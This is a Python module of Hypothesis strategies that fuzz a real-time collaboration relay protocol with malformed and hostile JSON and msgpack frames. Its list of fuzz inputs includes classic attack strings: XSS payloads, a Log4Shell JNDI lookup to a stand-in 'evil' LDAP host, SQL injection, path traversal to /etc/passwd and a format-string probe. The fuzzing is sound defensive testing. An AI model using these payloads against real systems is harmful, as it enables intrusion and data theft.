"""Hypothesis strategies for hostile frames, in both directions and both encodings.

Frames are built from the protocol's own shapes (docs/protocol.md "Messages") and then
spoiled: wrong types, missing and extra fields, huge numbers, NaN, deep nesting, bad
paths and room names, odd unicode, markup. :func:`encode` turns a Python object into a
JSON text frame or a msgpack binary frame; byte-level mutations and raw junk cover what
the shapes do not.

Nothing is left out to dodge a known bug: the room killers these strategies found
(merge keys that are not path segments, integers beyond 64 bits, values nested up to
the limit below a path) are fixed and have regression tests in test_poison_ops.py.
"""

from __future__ import annotations

import json
import math
from typing import Any

import msgspec
from hypothesis import assume
from hypothesis import strategies as st

from livewidgets.protocol import JSON_SUBPROTOCOL, MSGPACK_SUBPROTOCOL

ROOM = "fuzz"

# --- scalars ------------------------------------------------------------------------

INTERESTING_INTS = [
    0,
    1,
    -1,
    2,
    63,
    64,
    65,
    255,
    256,
    2**15,
    2**31 - 1,
    2**31,
    2**32,
    2**53 - 1,
    2**53,
    2**53 + 1,
    2**63 - 1,
    -(2**63),
    2**63,
    2**64 - 1,
    2**64,
    2**100,
    -(2**100),
    10**30,
]
# Within what msgpack can carry (see the module docstring).
SAFE_INTS = st.one_of(
    st.sampled_from([i for i in INTERESTING_INTS if -(2**63) <= i < 2**64]),
    st.integers(min_value=-(2**63), max_value=2**64 - 1),
)
ANY_INTS = st.one_of(st.sampled_from(INTERESTING_INTS), st.integers())
FLOATS = st.one_of(
    st.sampled_from([0.0, -0.0, 1e308, -1e308, 5e-324, math.inf, -math.inf, math.nan, 0.1]),
    st.floats(allow_nan=True, allow_infinity=True),
)
MARKUP = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "</style><style>*{display:none}",
    "{{7*7}}",
    "${jndi:ldap://evil/x}",
    "%s%s%n",
    "\u202eevil\u202c",
    "\x00\x01\x1f",
    "😀" * 5,
    "a\u0301\u0301\u0301",
    "../../etc/passwd",
    "'; DROP TABLE log; --",
    "\ufeff",
]
# (Long strings come from a map, not a literal: hypothesis prints strategies' reprs.)
LONG = st.integers(600, 6000).map(lambda n: "x" * n)
TEXT = st.one_of(st.sampled_from(MARKUP), st.text(max_size=40), LONG)
SCALARS = st.one_of(st.none(), st.booleans(), ANY_INTS, FLOATS, TEXT)


def nested(depth: int, leaf: Any = 0, kind: str = "list") -> Any:
    """``depth`` levels of lists (or single-key mappings) around ``leaf``."""
    value = leaf
    for _ in range(depth):
        value = [value] if kind == "list" else {"k": value}
    return value


DEPTHS = st.sampled_from([10, 63, 64, 65, 100, 500])
DEEP = st.builds(nested, DEPTHS, SCALARS, st.sampled_from(["list", "dict"]))

VALUES = st.recursive(
    st.one_of(SCALARS, DEEP),
    lambda children: st.one_of(
        st.lists(children, max_size=4),
        st.dictionaries(st.one_of(TEXT, st.integers(-3, 3)), children, max_size=4),
    ),
    max_leaves=12,
)

PATHS = st.one_of(
    st.sampled_from(
        [
            "a",
            "a/b",
            "poll/q1/votes/yes",
            "",
            "/",
            "a/",
            "/a",
            "a//b",
            "a\x00b",
            "a\nb",
            "x" * 512,
            "x" * 513,
            "/".join("a" * 33),
            "/".join("a" * 32),
            "é/😀",
            "<script>",
            "..",
            "a/../b",
        ]
    ),
    TEXT,
    ANY_INTS,
    st.none(),
)
ROOMS = st.one_of(
    st.just(ROOM),
    st.just(ROOM),
    st.sampled_from(["", "other", "a b", "x" * 128, "x" * 129, "../fuzz", "fuzz\x00", "*", "é"]),
    TEXT,
    ANY_INTS,
)
CLIENT_IDS = st.one_of(
    st.none(),
    st.sampled_from(["", "a", "relay:reset", "x" * 64, "x" * 65, "a b", "é"]),
    st.from_regex(r"\A[A-Za-z0-9._:-]{1,64}\Z"),
)
SEQS = st.one_of(st.integers(min_value=1, max_value=50), ANY_INTS, st.sampled_from([0, -1]))

# Legal but hostile: what a well-formed yet malicious client may send (markup, odd
# unicode, boundary numbers, nesting right at the limit), so frames get past decoding.
LEGAL_SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**63), max_value=2**63 - 1),
    st.floats(allow_nan=False, allow_infinity=False),
    TEXT,
)
LEGAL_VALUES = st.recursive(
    st.one_of(LEGAL_SCALARS, st.builds(nested, st.sampled_from([5, 63, 64]), LEGAL_SCALARS)),
    lambda children: st.one_of(
        st.lists(children, max_size=4), st.dictionaries(TEXT, children, max_size=4)
    ),
    max_leaves=10,
)
SEGMENTS = st.one_of(
    st.sampled_from(["a", "b", "poll", "votes", "list", "text", "<b>", "😀", "__proto__"]),
    st.text(
        st.characters(min_codepoint=0x20, exclude_characters="/", exclude_categories=["Cs"]),
        min_size=1,
        max_size=8,
    ),
)
LEGAL_PATHS = (
    st.lists(SEGMENTS, min_size=1, max_size=4).map("/".join).filter(lambda p: len(p) <= 512)
)


@st.composite
def legal_ops(draw: st.DrawFn) -> dict[str, Any]:
    """A well-formed op (it may still not apply: type mismatch, delta that does not fit)."""
    kind = draw(st.sampled_from(OP_KINDS))
    op: dict[str, Any] = {"op": kind, "path": draw(LEGAL_PATHS)}
    if kind in ("set", "push"):
        op["value"] = draw(LEGAL_VALUES)
    elif kind == "merge":
        op["value"] = draw(st.dictionaries(TEXT, LEGAL_VALUES, max_size=3))
    elif kind == "remove":
        op["id"] = draw(st.one_of(TEXT, st.integers(-(2**63), 2**63 - 1)))
    elif kind == "increment":
        op["by"] = draw(st.one_of(st.integers(-(2**63), 2**63 - 1), st.floats(-1e308, 1e308)))
    elif kind == "text":
        component = st.one_of(
            st.integers(1, 20), st.integers(-20, -1), TEXT.filter(bool), st.integers(1, 2**62)
        )
        op["delta"] = draw(st.lists(component, min_size=1, max_size=5))
    if draw(st.integers(0, 4)) == 0:
        op["if_version"] = draw(st.integers(0, 60))
    return op


@st.composite
def legal_client_messages(draw: st.DrawFn) -> dict[str, Any]:
    """A well-formed client → relay message with hostile contents."""
    kind = draw(
        st.sampled_from(
            ["op"] * 6
            + ["batch"] * 2
            + ["presence"] * 2
            + ["join", "leave", "admin", "hello", "auth"]
        )
    )
    room = draw(st.one_of(st.just(ROOM), st.just(ROOM), st.sampled_from(["fuzz-2", "a/b@c"])))
    seq = draw(st.one_of(st.integers(1, 10**6), st.integers(1, 2**63 - 1)))
    base = draw(st.integers(0, 100))
    if kind == "op":
        return {
            "type": "op",
            "room": room,
            "client_seq": seq,
            "base_version": base,
            "op": draw(legal_ops()),
        }
    if kind == "batch":
        return {
            "type": "batch",
            "room": room,
            "client_seq": seq,
            "base_version": base,
            "ops": draw(st.lists(legal_ops(), min_size=1, max_size=5)),
        }
    if kind == "presence":
        state = draw(st.one_of(hostile_presence(), st.dictionaries(TEXT, LEGAL_VALUES)))
        return {"type": "presence", "room": room, "state": state}
    if kind == "join":
        message = {"type": "join", "room": room, "presence": draw(hostile_presence())}
        return message | ({"since": draw(st.integers(0, 2**63))} if draw(st.booleans()) else {})
    if kind == "leave":
        return {"type": "leave", "room": room}
    if kind == "admin":
        action = draw(st.sampled_from(["reset", "kick"]))
        return {"type": "admin", "room": room, "action": action, "client_id": draw(CLIENT_IDS)}
    if kind == "auth":  # a token renewal with a token that is no token
        return {"type": "auth", "token": draw(TEXT.filter(bool))}
    return {"type": "hello", "protocol": 1, "user": draw(TEXT)}


# --- messages -----------------------------------------------------------------------

OP_KINDS = ["set", "merge", "push", "remove", "increment", "delete", "text"]


@st.composite
def ops(draw: st.DrawFn) -> Any:
    """One op object, valid-looking or not."""
    kind = draw(st.one_of(st.sampled_from(OP_KINDS), TEXT, st.none()))
    op: dict[str, Any] = {"op": kind, "path": draw(PATHS)}
    if kind in ("set", "push") or draw(st.booleans()):
        op["value"] = draw(VALUES)
    if kind == "merge":
        op["value"] = draw(st.one_of(st.dictionaries(TEXT, VALUES, max_size=4), VALUES))
    if kind == "increment":
        op["by"] = draw(st.one_of(ANY_INTS, FLOATS, VALUES))
    if kind == "remove":
        op["id"] = draw(st.one_of(ANY_INTS, TEXT, VALUES))
    if kind == "text":
        component = st.one_of(SAFE_INTS, TEXT, st.just(0), st.just(""))
        op["delta"] = draw(st.one_of(st.lists(component, max_size=6), VALUES))
    if draw(st.integers(0, 4)) == 0:
        op["if_version"] = draw(st.one_of(ANY_INTS, st.just(-1), TEXT))
    return _spoil(draw, op)


def _spoil(draw: st.DrawFn, message: dict[str, Any]) -> Any:
    """Sometimes drop a field, add an unknown one, or retype one."""
    how = draw(st.integers(0, 5))
    keys = sorted(message)
    if how == 0 and keys:
        message.pop(draw(st.sampled_from(keys)))
    elif how == 1:
        message[draw(st.sampled_from(["extra", "__proto__", "constructor", "Type", "type "]))] = (
            draw(VALUES)
        )
    elif how == 2 and keys:
        message[draw(st.sampled_from(keys))] = draw(VALUES)
    return message


def client_messages() -> st.SearchStrategy[Any]:
    """Client → relay messages: two thirds well-formed but hostile, one third spoiled."""
    return st.one_of(legal_client_messages(), legal_client_messages(), spoiled_client_messages())


@st.composite
def spoiled_client_messages(draw: st.DrawFn) -> Any:
    """Something shaped like a client → relay message (docs/protocol.md), then spoiled."""
    kind = draw(
        st.sampled_from(
            [
                *("hello", "join", "leave", "op", "op", "op", "batch"),
                *("presence", "admin", "auth", "other"),
            ]
        )
    )
    room = draw(ROOMS)
    message: dict[str, Any]
    if kind == "hello":
        message = {"type": "hello", "protocol": draw(st.one_of(st.just(1), ANY_INTS, TEXT))}
        for key, strategy in (("client_id", CLIENT_IDS), ("user", TEXT), ("token", TEXT)):
            if draw(st.booleans()):
                message[key] = draw(strategy)
    elif kind == "join":
        message = {"type": "join", "room": room}
        if draw(st.booleans()):
            message["since"] = draw(st.one_of(st.none(), ANY_INTS))
        if draw(st.booleans()):
            message["presence"] = draw(VALUES)
    elif kind == "leave":
        message = {"type": "leave", "room": room}
    elif kind in ("op", "batch"):
        message = {
            "type": kind,
            "room": room,
            "client_seq": draw(SEQS),
            "base_version": draw(st.one_of(st.integers(0, 3), ANY_INTS)),
        }
        if kind == "op":
            message["op"] = draw(ops())
        else:
            many = draw(st.sampled_from([0, 1, 3, 1001]))
            message["ops"] = (
                [{"op": "delete", "path": "a"}] * many
                if many > 3
                else draw(st.lists(ops(), max_size=4))
            )
    elif kind == "presence":
        message = {"type": "presence", "room": room, "state": draw(VALUES)}
    elif kind == "admin":
        message = {
            "type": "admin",
            "room": room,
            "action": draw(st.sampled_from(["reset", "kick", "nuke", ""])),
            "client_id": draw(CLIENT_IDS),
        }
    elif kind == "auth":
        message = {"type": "auth", "token": draw(st.one_of(TEXT, ANY_INTS, st.none()))}
    else:
        message = {"type": draw(st.one_of(TEXT, ANY_INTS, st.sampled_from(SERVER_TYPES)))}
        message.update(draw(st.dictionaries(TEXT, VALUES, max_size=3)))
    if draw(st.integers(0, 9)) == 0:  # not an object at all
        return draw(VALUES)
    return _spoil(draw, message)


SERVER_TYPES = [
    *("welcome", "snapshot", "broadcast", "joined", "ack", "reject", "presence", "error"),
    "authed",
]


@st.composite
def server_messages(draw: st.DrawFn) -> Any:
    """Something shaped like a relay → client message, then spoiled."""
    kind = draw(st.sampled_from([*SERVER_TYPES, "other"]))
    room = draw(st.one_of(st.just(ROOM), ROOMS))
    version = draw(st.one_of(st.integers(0, 5), ANY_INTS))
    message: dict[str, Any] = {"type": kind}
    if kind == "welcome":
        message |= {
            "protocol": draw(st.one_of(st.just(1), ANY_INTS)),
            "client_id": draw(st.one_of(TEXT, CLIENT_IDS)),
            "connection_id": draw(TEXT),
            "server": draw(TEXT),
            "limits": draw(st.dictionaries(TEXT, st.one_of(ANY_INTS, VALUES), max_size=3)),
        }
    elif kind == "snapshot":
        message |= {"room": room, "version": version, "state": draw(VALUES)}
        if draw(st.booleans()):
            message["last_seq"] = draw(ANY_INTS)
    elif kind == "broadcast":
        message |= {
            "room": room,
            "version": version,
            "origin": draw(st.one_of(TEXT, CLIENT_IDS)),
            "client_seq": draw(SEQS),
            "ops": draw(st.lists(ops(), max_size=3)),
        }
    elif kind == "joined":
        message |= {
            "room": room,
            "version": version,
            "mode": draw(st.sampled_from(["delta", "snapshot", "full", ""])),
        }
        if draw(st.booleans()):
            message["presence"] = draw(
                st.one_of(st.dictionaries(TEXT, st.dictionaries(TEXT, VALUES), max_size=3), VALUES)
            )
    elif kind == "ack":
        message |= {"room": room, "client_seq": draw(SEQS), "version": version}
        if draw(st.booleans()):
            message["duplicate"] = draw(st.one_of(st.booleans(), VALUES))
    elif kind == "reject":
        message |= {
            "room": room,
            "client_seq": draw(SEQS),
            "code": draw(st.one_of(st.sampled_from(["conflict", "forbidden"]), TEXT)),
            "message": draw(TEXT),
        }
        if draw(st.booleans()):
            message |= {"path": draw(PATHS), "current": draw(VALUES), "current_version": version}
    elif kind == "presence":
        message |= {
            "room": room,
            "states": draw(
                st.one_of(
                    st.dictionaries(
                        st.one_of(TEXT, CLIENT_IDS),
                        st.one_of(st.none(), hostile_presence(), VALUES),
                        max_size=3,
                    ),
                    VALUES,
                )
            ),
        }
    elif kind == "error":
        message |= {
            "code": draw(st.one_of(st.sampled_from(["not_joined", "forbidden", "internal"]), TEXT)),
            "message": draw(TEXT),
        }
        if draw(st.booleans()):
            message["room"] = room
    else:
        message["type"] = draw(st.one_of(TEXT, ANY_INTS))
    if draw(st.integers(0, 9)) == 0:
        return draw(VALUES)
    return _spoil(draw, message)


def hostile_presence() -> st.SearchStrategy[dict[str, Any]]:
    """Presence states a hostile peer (or relay) might send: markup in names, odd colours."""
    return st.fixed_dictionaries(
        {"name": TEXT, "color": st.one_of(TEXT, st.sampled_from(["red;}</style>", "url(x)"]))},
        optional={"user": TEXT, "cursor": LEGAL_VALUES, "status": TEXT},
    )


# --- encoding -----------------------------------------------------------------------


def _jsonable(value: Any) -> Any:
    if isinstance(value, (bytes, msgspec.msgpack.Ext)):
        return repr(value)
    raise TypeError


def encode(obj: Any, subprotocol: str, style: int = 0) -> bytes | str:
    """A frame for ``subprotocol``: JSON text (style 1: NaN/Infinity literals and \\u escapes
    as Python writes them) or msgpack bytes. Unencodable objects are rejected via assume()."""
    try:
        if subprotocol == MSGPACK_SUBPROTOCOL:
            return msgspec.msgpack.encode(obj)
        if style:
            text = json.dumps(obj, allow_nan=True, ensure_ascii=style == 2, default=_jsonable)
            text.encode()  # a text frame must be UTF-8: lone surrogates only as \u escapes
            return text
        return msgspec.json.encode(obj, enc_hook=_jsonable).decode()
    except (OverflowError, RecursionError, TypeError, ValueError, msgspec.EncodeError):
        assume(False)
        raise AssertionError("unreachable") from None


def deep_frame(subprotocol: str, depth: int) -> bytes | str:
    """A message whose presence state is ``depth`` lists deep, written out directly (an
    encoder would hit its own recursion limit first)."""
    if subprotocol == MSGPACK_SUBPROTOCOL:
        head = msgspec.msgpack.encode({"type": "presence", "room": ROOM, "state": {"x": None}})
        return head[:-1] + b"\x91" * depth + b"\xc0"
    return '{"type":"presence","room":"fuzz","state":{"x":' + "[" * depth + "]" * depth + "}}"


@st.composite
def frames(draw: st.DrawFn, subprotocol: str, messages: Any) -> bytes | str:
    """One frame for a connection speaking ``subprotocol``: a (spoiled) message, the same
    with its bytes mutated, a deep-nesting bomb, raw junk, or a frame of the wrong kind."""
    how = draw(st.sampled_from(["message"] * 5 + ["mutated", "mutated", "deep", "raw", "wrong"]))
    if how == "deep":
        return deep_frame(subprotocol, draw(st.sampled_from([64, 1000, 10_000, 100_000])))
    if how == "raw":
        if subprotocol == JSON_SUBPROTOCOL:
            return draw(
                st.one_of(
                    st.text(max_size=200),
                    st.sampled_from(['{"type":', "[]", "null", '""', "{}" * 100]),
                )
            )
        return draw(st.binary(max_size=200))
    if how == "wrong":
        if subprotocol == JSON_SUBPROTOCOL:
            return draw(st.binary(max_size=50))
        return draw(st.text(max_size=50))
    frame = encode(draw(messages), subprotocol, draw(st.integers(0, 2)))
    if how == "mutated":
        data = bytearray(frame.encode() if isinstance(frame, str) else frame)
        for _ in range(draw(st.integers(1, 4))):
            at = draw(st.integers(0, len(data)))
            edit = draw(st.sampled_from(["cut", "flip", "insert"]))
            if edit == "cut":
                del data[at:]
            elif edit == "flip" and at < len(data):
                data[at] ^= 1 << draw(st.integers(0, 7))
            else:
                data[at:at] = draw(st.binary(min_size=1, max_size=4))
        if subprotocol == JSON_SUBPROTOCOL:
            return bytes(data).decode("utf-8", errors="replace")
        return bytes(data)
    return frame
